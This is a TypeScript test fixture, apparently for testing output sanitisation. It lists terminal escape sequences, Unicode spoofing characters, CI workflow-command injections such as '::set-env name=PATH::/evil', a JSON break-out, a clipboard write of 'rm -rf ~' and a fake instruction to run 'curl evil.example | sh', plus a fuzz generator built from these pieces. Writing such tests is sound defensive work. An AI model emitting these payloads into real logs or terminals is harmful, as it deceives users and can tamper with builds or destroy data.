/** Text that does something to those who show it without care, by what it does it to. */
export const payloads: Readonly<Record<string, string>> = {
  'OU01 clears the screen': '\x1b[2J\x1b[H all is well',
  'OU01 sets the title': '\x1b]0;owned\x07',
  'OU01 writes to the clipboard': '\x1b]52;c;cm0gLXJmIH4K\x1b\\',
  'OU01 hides a link': '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\',
  'OU01 sends a device control string': '\x1bPq#0;2;0;0;0\x1b\\',
  'OU01 sends C1 controls': '\x9b2J\x9d0;owned\x9c\x90q\x9c',
  'OU01 overwrites the line': 'refused\rOK      \x08\x08\x08done\x7f',
  'OU01 rings and asks for answers': '\x07\x05\x1b[6n\x1b[c',
  'OU01 colours like the tool': '\x1b[32mhealthy\x1b[39m\x1b[41;97m',
  'OU01 begins lines of its own': 'x\n\n1  The certificate has expired\n   Do  curl evil.example | sh',
  'OU02 turns the direction': '\u202egpj.exe\u202c\u2066x\u2069\u200f\u061c',
  'OU02 hides letters': 'pay\u200bpal\u00ad.\u2060example\ufeff\u3164',
  'OU02 hides tags': 'ok\u{e0041}\u{e0042}\u{e007f}',
  'OU02 looks like another host': 'https://\u0430pple.example',
  'OU03 sets a variable of GitHub': '::set-env name=PATH::/evil',
  'OU03 sets it behind spaces': '   ::add-path::/evil',
  'OU03 sets it behind a space without break': 'x \u00a0::add-mask::ok',
  'OU03 points to a file with a colon': '::error file=a:b,line=1::wrong',
  'OU03 stops commands': '::stop-commands::t0ken',
  'OU03 shouts': '::ERROR::wrong',
  'OU03 uses the old form': 'x ##[set-env name=PATH;]/evil',
  'OU03 uses the old form with marks before': '####[error]wrong',
  'OU03 sets a variable of Azure': 'x ##vso[task.setvariable variable=a]b',
  'OU03 speaks to TeamCity': "##teamcity[buildStatus text='ok']",
  'OU03 folds a section of GitLab': 'section_start:1700000000:x\r\x1b[0Kok',
  'OU03 begins a command on a later line': 'x\n::warning::y\r\n::notice::z',
  'OU08 has halves of characters': '\ud800 \udfff \ud83d',
  'OU08 has separators of lines': 'a\u2028b\u2029c\u0085d',
  'OU08 has names of prototypes': '{"__proto__":{"polluted":true}}',
  'OU08 closes the string': '"}],"verdict":"healthy","x":[{"y":"\\',
  'OU10 has 60 KB': 'banner '.repeat(8_600),
};

/** Numbers between 0 and 1 that are the same in every run (mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const pieces = [
  ...[
    '::',
    ':',
    '#',
    '##',
    '##[',
    'vso[',
    'teamcity[',
    'error',
    'set-env',
    'add-mask',
    'debug',
    ' name=x',
    ']',
    '[',
    ' ',
  ],
  ...[
    '\x1b',
    '\x1b[',
    '\x1b]',
    '2J',
    '0;',
    'm',
    '\x07',
    '\x9b',
    '\x9d',
    '\r',
    '\n',
    '\r\n',
    '\t',
    '\x08',
    '\x7f',
    '\x85',
  ],
  ...[
    '\u202e',
    '\u2066',
    '\u200b',
    '\ufeff',
    '\u2028',
    '\u00a0',
    '\u3000',
    '\ud83d',
    '\ude00',
    '\u{1f600}',
    '\u{e0041}',
  ],
  ...['a', 'Mail', '2001:db8::1', '::1', '\u00e9', '\u4e2d', '\\', '"', '/', '\\x1b', '\\u001b', '…'],
];

/** A text made of pieces that are harmful together or alone. */
export function generated(random: () => number): string {
  const count = 1 + Math.floor(random() * 12);
  return Array.from({ length: count }, () => pieces[Math.floor(random() * pieces.length)]).join('');
}
